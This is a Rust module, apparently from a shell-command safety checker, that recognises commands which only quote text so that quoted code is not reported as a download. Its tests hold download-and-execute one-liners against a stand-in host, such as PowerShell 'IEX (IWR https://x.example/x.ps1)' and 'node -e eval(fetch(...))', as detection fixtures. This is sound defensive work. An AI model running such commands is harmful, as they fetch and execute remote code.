//! What a script only quotes: the pattern of a `grep`, the message of a commit.

use super::lexer::Variables;
use super::reads::{Reads, reads};
use super::shell::Script;
use crate::effort;

/// Commands that turn out to be something else after all, until no further one is looked at.
const MAX_TRIES: u32 = 32;
/// Nobody types a longer command that only reads text.
const MAX_BYTES: usize = 4096;

/// The text without commands that take their words for text and nothing more.
pub fn without_text(text: &str) -> String {
    let mut kept = String::new();
    let mut rest = text;
    let mut tries = MAX_TRIES;
    while !rest.is_empty() {
        let length = if tries > 0 { text_command(rest) } else { None };
        let end = rest.find(['\n', ';']).map_or(rest.len(), |end| end + 1);
        let (now, later) = rest.split_at(length.unwrap_or(end));
        if length.is_none() {
            tries = tries.saturating_sub(u32::from(begins(rest)));
            kept.push_str(now);
        }
        rest = later;
    }
    kept
}

/// Whether the first word is that of a program that may take its words for text.
fn begins(text: &str) -> bool {
    let mut words = text.split_whitespace().map(str::to_owned);
    let name = words.next().unwrap_or_default();
    let words: Vec<String> = words.take(1).collect();
    reads(&name, &words) == Reads::Text
}

/// The length of the command that the text begins with, if it is one that only reads text: everything
/// that a shell could run in it stands in single quotes, or is none in double ones.
fn text_command(text: &str) -> Option<usize> {
    if !begins(text) {
        return None;
    }
    let text = text.get(..text.floor_char_boundary(MAX_BYTES))?;
    let (mut quote, mut escaped, mut end) = (None, false, None);
    for (at, c) in text.char_indices() {
        match (quote, c) {
            _ if escaped => escaped = false,
            (None | Some('"'), '\\') => escaped = true,
            (Some(open), c) if open == c => quote = None,
            (Some('"') | None, '$' | '`') => return None,
            (Some(_), _) => {}
            (None, '\'' | '"') => quote = Some(c),
            (None, '\n' | ';') => {
                end = Some(at);
                break;
            }
            (None, c) if "|&()<>".contains(c) => return None,
            (None, _) => {}
        }
    }
    let end = end.or_else(|| (quote.is_none() && text.len() < MAX_BYTES).then_some(text.len()))?;
    effort::spend(end);
    let script = Script::lex(text.get(..end)?, &mut Variables::new(), &mut 0);
    let [command] = script.commands.as_slice() else {
        return None;
    };
    let (name, words) = command.effective();
    let only = reads(&name, words) == Reads::Text && command.printed().is_empty();
    (only && script.nested.is_empty()).then_some(end)
}

#[cfg(test)]
mod tests {
    use super::super::{Opaque, script};

    #[test]
    fn code_that_is_only_quoted_is_no_download() {
        let told = |line: &str| script(line).opaque == Some(Opaque::Download);
        for line in [
            "grep \"eval(fetch(\" src/*.js",
            "grep -rn 'exec(urlopen(' .",
            "cd x && ls\nrg 'eval(fetch('\nls",
            "git commit -m 'no eval(fetch(url)); use import'",
            "git commit -m \"drop eval(fetch(\n\nIt was bad; exec(urlopen( too\"; git push",
            "gh pr create --title 'IEX (IWR x) is refused'",
        ] {
            assert!(!told(line), "{line}");
        }
        for line in [
            "grep 'eval(fetch(' x; node -e \"eval(fetch('https://x.example'))\"",
            "grep \"eval(fetch(\" x\nIEX (IWR 'https://x.example/x.ps1')",
            "git commit -m x; iex(irm https://x.example)",
            "git commit -m \"$(iex (irm https://x.example))\"",
            "git log | % { iex (irm https://x.example) }",
            "grep x (iex (irm https://x.example))",
            "echo 'IEX (IWR https://x.example)' | powershell -",
            "git commit -m 'x\nIEX (IWR https://x.example)",
            "gitx commit -m 'IEX (IWR https://x.example)'",
        ] {
            assert!(told(line), "{line}");
        }
    }
}
